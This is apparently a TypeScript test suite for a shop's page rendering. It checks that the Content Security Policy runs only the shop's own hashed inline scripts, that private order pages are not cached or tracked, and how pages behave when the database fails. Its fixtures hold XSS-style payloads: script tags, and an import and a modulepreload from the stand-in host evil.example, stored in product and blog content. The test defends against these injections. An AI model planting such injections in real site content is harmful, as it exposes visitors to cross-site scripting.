import { createHash, randomUUID } from 'node:crypto'
import { sql } from 'drizzle-orm'
import { describe, expect, it } from 'vitest'
import { blogPosts, orders, products } from '#server/db/schema.ts'
import { addProduct, order } from '#test/support/ordering.ts'
import { testShop } from '#test/support/shop.ts'
import { builtPages } from './built-pages.ts'
import { mountPages } from './pages.ts'

const shop = await testShop({ YANDEX_METRIKA_ID: '12345', PUBLIC_URL: 'https://shar.example' })
mountPages(shop.app, shop.deps, await builtPages())

const hashOf = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`

async function open(path: string) {
  const response = await shop.request('GET', path)
  const policy = response.headers.get('content-security-policy') ?? ''
  const [scriptSource = ''] = /script-src [^;]*/.exec(policy) ?? []
  const html = await response.text()
  const inline = Array.from(html.matchAll(/<script(?![^>]*\ssrc=)([^>]*)>([\s\S]*?)<\/script>/g))
  const scripts = inline.flatMap(([, attributes = '', code = '']) =>
    attributes.includes('ld+json') ? [] : [{ attributes, code }],
  )
  return { status: response.status, html, scriptSource, scripts, headers: response.headers }
}

const injected = ['window.evil = 1', 'import "https://evil.example/x.js"', 'window.evil = "&<>"']
/** As if it had come past the cleaner: into the database by another way. */
const hostile = [
  ...injected.map((code) => `<script>${code}</script>`),
  `<script nonce="">${injected[0]}</script>`,
  `<script type="module" async="">${injected[1]}</script>`,
  '<link rel="modulepreload" href="https://evil.example/x.js"/>',
].join('<p>Текст</p>')

describe('what a page may run', () => {
  it.each(['/', '/catalog', '/blog', '/nowhere', '/admin/login'])(
    'is every script of our own on %s',
    async (path) => {
      const { scripts, scriptSource, html } = await open(path)
      expect(scripts.length).toBeGreaterThan(3)
      for (const { code } of scripts) expect(scriptSource).toContain(hashOf(code))
      expect(scriptSource.match(/sha256-/g)?.length).toBe(new Set(scripts.map(({ code }) => code)).size)
      expect(scriptSource).not.toMatch(/unsafe|nonce/)
      expect(html.includes('nonce')).toBe(false)
    },
  )

  it('is no script that came with an article or a description', async () => {
    const { slug } = await addProduct(shop)
    await shop.deps.db.update(products).set({ description: hostile })
    await shop.deps.db
      .insert(blogPosts)
      .values({ title: 'Статья', slug: 'statya', content: hostile, readTime: 1, isPublished: true })
    for (const path of ['/blog/statya', `/product/${slug}`]) {
      const { status, html, scripts, scriptSource } = await open(path)
      expect([status, html.includes(`<script>${injected[0]}</script>`)]).toEqual([200, true])
      for (const code of injected) expect(scriptSource).not.toContain(hashOf(code))
      const own = scripts.filter(({ code }) => !injected.includes(code))
      expect(own.length).toBeGreaterThan(3)
      for (const { code } of own) {
        expect(scriptSource).toContain(hashOf(code))
        // Our own scripts fetch nothing that an article asks for. What they carry as data is escaped.
        if (!code.includes('streamController')) expect(code).not.toContain('evil.example')
      }
    }
  })
})

describe('the private page of an order', () => {
  it('stays with its reader: no cache, no referrer, no counter', async () => {
    const ball = await addProduct(shop)
    const { token } = await (await order(shop, [ball])).json()
    for (const path of [`/order/${token}`, '/order/nothing-here', `/order/${token}.data`]) {
      const { headers, scriptSource, html } = await open(path)
      expect([path, headers.get('cache-control')]).toEqual([path, 'no-store'])
      expect(headers.get('referrer-policy')).toBe('no-referrer')
      expect((scriptSource + html).includes('mc.yandex')).toBe(false)
    }
    expect((await open('/')).scriptSource).toContain('mc.yandex.ru')
  })
})

describe('a page whose content cannot be read', () => {
  it('says so in the shop’s frame', async () => {
    // A failure of our own, not a database that is away.
    const broken = await testShop()
    mountPages(broken.app, broken.deps, await builtPages())
    for (const table of [products, blogPosts, orders])
      await broken.deps.db.execute(sql`alter table ${table} rename to ${sql.identifier(randomUUID())}`)
    for (const path of ['/product/shar', '/blog/statya', '/order/0123456789']) {
      const response = await broken.request('GET', path)
      const html = await response.text()
      expect([response.status, response.headers.get('cache-control')], path).toEqual([500, 'no-store'])
      for (const words of ['Страница не открылась', 'Не удалось загрузить', 'Повторить', '</footer>'])
        expect(html, path).toContain(words)
    }
  })
})
